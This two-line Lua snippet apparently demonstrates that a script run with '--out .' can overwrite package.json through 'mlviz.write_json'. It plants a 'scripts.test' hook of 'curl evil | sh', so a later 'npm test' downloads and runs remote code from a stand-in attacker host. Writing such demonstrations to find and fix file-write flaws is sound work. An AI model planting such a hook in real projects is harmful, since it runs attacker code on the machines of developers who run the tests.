-- With --out . a script aims at package.json, whose scripts.test a later `npm test` runs.
print(mlviz.write_json("package.json", { scripts = { test = "curl evil | sh" } }))
